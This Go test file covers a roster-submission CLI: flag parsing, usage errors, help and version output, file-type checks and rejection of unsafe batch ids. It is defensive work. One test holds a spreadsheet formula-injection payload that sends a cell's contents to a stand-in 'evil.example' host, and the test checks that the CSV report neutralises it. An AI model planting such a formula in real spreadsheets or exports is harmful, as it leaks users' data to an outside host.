package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"runtime/debug"
	"strings"
	"syscall"
	"testing"

	"go.temporal.io/sdk/temporal"

	"github.com/cohort-dev/cohort/roster"
	"github.com/cohort-dev/cohort/workflows"
)

// Flags may stand after the positional arguments, as in
// "starter report BATCH --format csv".
func TestParse_interspersedFlags(t *testing.T) {
	fs := flag.NewFlagSet("report", flag.ContinueOnError)
	format := fs.String("format", "csv", "")
	pos, err := parse(fs, []string{"2026-01-15-3f9c", "--format", "json"}, 1, "one BATCH id")
	if err != nil {
		t.Fatal(err)
	}
	if len(pos) != 1 || pos[0] != "2026-01-15-3f9c" || *format != "json" {
		t.Fatalf("got %v, format %q", pos, *format)
	}
}

func TestRun_usageErrorsExitTwo(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.csv")
	if err := os.WriteFile(bad, []byte("email,display_name\nnot-an-email,X\na@b.example,A\nA@B.example,B\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		args []string
		want []string // in the message
	}{
		{"no command", nil, []string{"usage: starter"}},
		{"unknown command", []string{"launch"}, []string{`unknown command "launch"`}},
		{"submit without file", []string{"submit"}, []string{"expected one roster FILE.csv"}},
		{"report with bad format", []string{"report", "b1", "--format", "xml"}, []string{"expected csv or json"}},
		{"missing file", []string{"submit", filepath.Join(dir, "nope.csv")}, []string{"nope.csv"}},
		// Validation happens before any connection to Temporal: this needs none.
		{"invalid roster", []string{"submit", bad}, []string{"bad.csv:2: email:", "bad.csv:4: email: duplicate of line 3", "nothing was submitted"}},
		// Batch ids are refused before anything is read, stored or started
		// (none of these connects to Temporal).
		{"batch id naming another's chunk", []string{"submit", "--batch", "victim/chunk-00000", bad},
			[]string{`submit: --batch: expected 1 to 64 letters`, `"victim/chunk-00000"`, "nothing was submitted"}},
		{"batch id with a newline", []string{"submit", "--batch", "day1\nx", bad}, []string{`submit: --batch: expected 1 to 64`, `"day1\nx"`}},
		{"batch id of 1,200 characters", []string{"submit", "--batch", strings.Repeat("b", 1200), bad}, []string{"submit: --batch:", "(1200 bytes)"}},
		{"batch id Cohort reserves", []string{"submit", "--batch", "offboard-day1", bad}, []string{`not starting with "offboard-"`}},
		{"status of a chunk id", []string{"status", "victim/chunk-00000"}, []string{"status: BATCH: expected a batch id"}},
		{"report of a chunk id", []string{"report", "victim/chunk-00000", "--format", "json"}, []string{"report: BATCH: expected a batch id"}},
		{"retry-failed of a chunk id", []string{"retry-failed", "victim/chunk-00000"}, []string{"retry-failed: BATCH: expected a batch id"}},
		{"offboard dry run of a chunk id", []string{"offboard", "--dry-run", "victim/chunk-00000"},
			[]string{`offboard: "victim/chunk-00000": neither a roster file nor a batch id`}},
		{"reconcile of a chunk id", []string{"reconcile", "victim/chunk-00000"}, []string{`reconcile: "victim/chunk-00000": neither a roster file nor a batch id`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			m := &Main{Stdout: &out, Stderr: &errOut, Getenv: func(string) string { return "" }}
			err := m.Run(context.Background(), tt.args)
			var ue usageError
			if !errors.As(err, &ue) {
				t.Fatalf("error = %v, want a usage error (exit 2)", err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("message %q does not mention %q", err, w)
				}
			}
		})
	}
}

// run runs one command line with captured output and no environment.
func run(t *testing.T, args ...string) (stdout string, err error) {
	t.Helper()
	var out, errOut bytes.Buffer
	m := &Main{Stdout: &out, Stderr: &errOut, Getenv: func(string) string { return "" }}
	err = m.Run(context.Background(), args)
	if errOut.Len() > 0 {
		t.Logf("stderr: %s", errOut.String())
	}
	return out.String(), err
}

func firstLine(s string) string {
	l, _, _ := strings.Cut(s, "\n")
	return l
}

// -h and --help, on every command, print its usage and flags to stdout and
// succeed (exit 0), without loading a config or connecting anywhere.
func TestRun_helpForEveryCommand(t *testing.T) {
	common := []string{"-config file", "-address host:port", "-namespace namespace"}
	tests := []struct {
		cmd   string
		flags []string
	}{
		{"submit", append([]string{"-wait", "-batch id", "-skip-invalid"}, common...)},
		{"plan", append([]string{"-skip-invalid"}, common...)},
		{"status", common},
		{"retry-failed", append([]string{"-wait"}, common...)},
		{"report", append([]string{"-format format"}, common...)},
		{"reconcile", append([]string{"-wait", "-every DURATION"}, common...)},
		{"offboard", append([]string{"-wait", "-dry-run", "-delete-users", "-drop-schemas"}, common...)},
		{"usage", append([]string{"-format format", "-out FILE", "-every DURATION", "-cached"}, common...)},
		{"budget", common},
		{"version", nil},
	}
	if len(tests) != len(commands) {
		t.Fatalf("%d commands tested, %d exist", len(tests), len(commands))
	}
	for _, tt := range tests {
		for _, args := range [][]string{{tt.cmd, "-h"}, {tt.cmd, "--help"}, {"help", tt.cmd}, {tt.cmd, "some-arg", "-h"}} {
			t.Run(strings.Join(args, " "), func(t *testing.T) {
				out, err := run(t, args...)
				if err != nil {
					t.Fatalf("error = %v, want none (exit 0)", err)
				}
				if !strings.HasPrefix(out, "usage: starter "+tt.cmd) {
					t.Errorf("stdout starts %q, want %q", firstLine(out), "usage: starter "+tt.cmd)
				}
				for _, f := range tt.flags {
					if !strings.Contains(out, "  "+f+"\n") {
						t.Errorf("stdout lacks flag %q:\n%s", f, out)
					}
				}
			})
		}
	}
	out, err := run(t, "-h")
	if err != nil || !strings.Contains(out, "usage: starter COMMAND") || !strings.Contains(out, "version") {
		t.Errorf("starter -h: error %v, stdout:\n%s", err, out)
	}
}

// An unknown flag is a usage error (exit 2) that names the valid flags.
func TestRun_unknownFlagNamesValidOnes(t *testing.T) {
	tests := []struct {
		args []string
		want []string
	}{
		{[]string{"submit", "--wiat", "day1.csv"}, []string{"-wiat", "--wait", "--batch", "--skip-invalid", "--config", "starter submit -h"}},
		{[]string{"report", "b1", "--fmt", "json"}, []string{"-fmt", "--format", "--config", "--address", "--namespace"}},
		{[]string{"version", "--short"}, []string{"-short", "valid flags: none"}},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			_, err := run(t, tt.args...)
			var ue usageError
			if !errors.As(err, &ue) {
				t.Fatalf("error = %v, want a usage error (exit 2)", err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("message %q does not mention %q", err, w)
				}
			}
		})
	}
}

func TestRun_version(t *testing.T) {
	out, err := run(t, "version")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 4 || !strings.HasPrefix(lines[0], "cohort ") {
		t.Fatalf("version printed:\n%s\nwant cohort, two SDKs and go, one a line", out)
	}
	for i, path := range []string{"go.temporal.io/sdk v1.", "github.com/databricks/databricks-sdk-go v0.", "go go1."} {
		if !strings.HasPrefix(lines[i+1], path) {
			t.Errorf("line %d = %q, want it to start with %q", i+2, lines[i+1], path)
		}
	}
}

func TestVersionText(t *testing.T) {
	deps := []*debug.Module{
		{Path: "go.temporal.io/sdk", Version: "v1.51.0"},
		{Path: "github.com/databricks/databricks-sdk-go", Version: "v0.175.0", Replace: &debug.Module{Path: "../fork", Version: ""}},
	}
	tests := []struct {
		name  string
		info  *debug.BuildInfo
		first string
	}{
		{"tagged module", &debug.BuildInfo{Main: debug.Module{Version: "v1.2.0"}, Deps: deps, GoVersion: "go1.26.8"}, "cohort v1.2.0"},
		{"work tree with vcs info", &debug.BuildInfo{Main: debug.Module{Version: "(devel)"}, Deps: deps, GoVersion: "go1.26.8",
			Settings: []debug.BuildSetting{{Key: "vcs.revision", Value: "e533a03f00dd1234567890"}, {Key: "vcs.modified", Value: "true"}}}, "cohort (devel) e533a03f00dd+modified"},
		{"work tree without vcs info", &debug.BuildInfo{Main: debug.Module{Version: "(devel)"}, Deps: deps, GoVersion: "go1.26.8"}, "cohort (devel)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := versionText(tt.info)
			want := tt.first + "\ngo.temporal.io/sdk v1.51.0\ngithub.com/databricks/databricks-sdk-go v0.175.0 (replaced by ../fork)\ngo go1.26.8\n"
			if got != want {
				t.Errorf("got:\n%s\nwant:\n%s", got, want)
			}
		})
	}
	if got := versionText(&debug.BuildInfo{GoVersion: "go1.26.8"}); !strings.Contains(got, "go.temporal.io/sdk v"+temporal.SDKVersion+"\n") {
		t.Errorf("without module info, want the SDK's declared version:\n%s", got)
	}
}

// TestRun_rosterMustBeARegularFile: a FIFO, a device, a directory or an
// oversized file is refused by name (exit 2) before anything is read from
// it, and a read stopped by SIGINT/SIGTERM (the cancelled context) exits 2
// naming the file, before any connection.
func TestRun_rosterMustBeARegularFile(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo.csv")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	big := filepath.Join(dir, "big.csv")
	if err := os.WriteFile(big, []byte("email\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(big, roster.MaxFileSize+1); err != nil {
		t.Fatal(err)
	}
	good := filepath.Join(dir, "good.csv")
	if err := os.WriteFile(good, []byte("email\na@b.example\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	tests := []struct {
		name string
		ctx  context.Context
		args []string
		want string
	}{
		{"submit FIFO", context.Background(), []string{"submit", fifo}, fifo + ": expected a regular file (a CSV saved to disk), found a named pipe (FIFO)"},
		{"plan FIFO", context.Background(), []string{"plan", fifo}, fifo + ": expected a regular file"},
		{"offboard FIFO", context.Background(), []string{"offboard", "--dry-run", fifo}, fifo + ": expected a regular file"},
		{"reconcile device", context.Background(), []string{"reconcile", "/dev/zero"}, "/dev/zero: expected a regular file (a CSV saved to disk), found a character device"},
		{"submit device", context.Background(), []string{"submit", "/dev/zero"}, "/dev/zero: expected a regular file"},
		{"submit directory", context.Background(), []string{"submit", dir}, dir + ": expected a regular file (a CSV saved to disk), found a directory"},
		{"submit 64 MiB + 1", context.Background(), []string{"submit", big}, big + ": expected a roster of at most 64 MiB"},
		{"submit interrupted", cancelled, []string{"submit", good}, good + ": reading interrupted"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			m := &Main{Stdout: &out, Stderr: &errOut, Getenv: func(string) string { return "" }}
			err := m.Run(tt.ctx, tt.args)
			var ue usageError
			if !errors.As(err, &ue) {
				t.Fatalf("error = %v, want a usage error (exit 2)", err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("message %q does not contain %q", err, tt.want)
			}
		})
	}
}

// A report opened in a spreadsheet runs no formula: cells that would be
// evaluated get a leading ', in CSV only; JSON keeps the values as they are.
func TestWriteReport_neutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	outcomes := []workflows.Outcome{
		{ParticipantResult: workflows.ParticipantResult{Email: "a@example.com", DisplayName: evil}, Status: workflows.StatusOK},
		{ParticipantResult: workflows.ParticipantResult{Email: "b@example.com", DisplayName: "Taro"}, Status: workflows.StatusFailed,
			Step: "create_user", Error: "-1 is not a user id; @admin: +see the log"},
	}
	var buf bytes.Buffer
	if err := writeReport(&buf, "csv", outcomes); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("report is not CSV: %v", err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	if got, want := recs[1][col["display_name"]], "'"+evil; got != want {
		t.Errorf("display_name = %q, want %q", got, want)
	}
	if got, want := recs[2][col["last_error"]], "'-1 is not a user id; @admin: +see the log"; got != want {
		t.Errorf("last_error = %q, want %q", got, want)
	}
	if got := recs[2][col["display_name"]]; got != "Taro" {
		t.Errorf("display_name = %q, want Taro unchanged", got)
	}

	buf.Reset()
	if err := writeReport(&buf, "json", outcomes); err != nil {
		t.Fatal(err)
	}
	var rows []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &rows); err != nil {
		t.Fatal(err)
	}
	if got := rows[0]["display_name"]; got != evil {
		t.Errorf("JSON display_name = %q, want %q as it is", got, evil)
	}
}
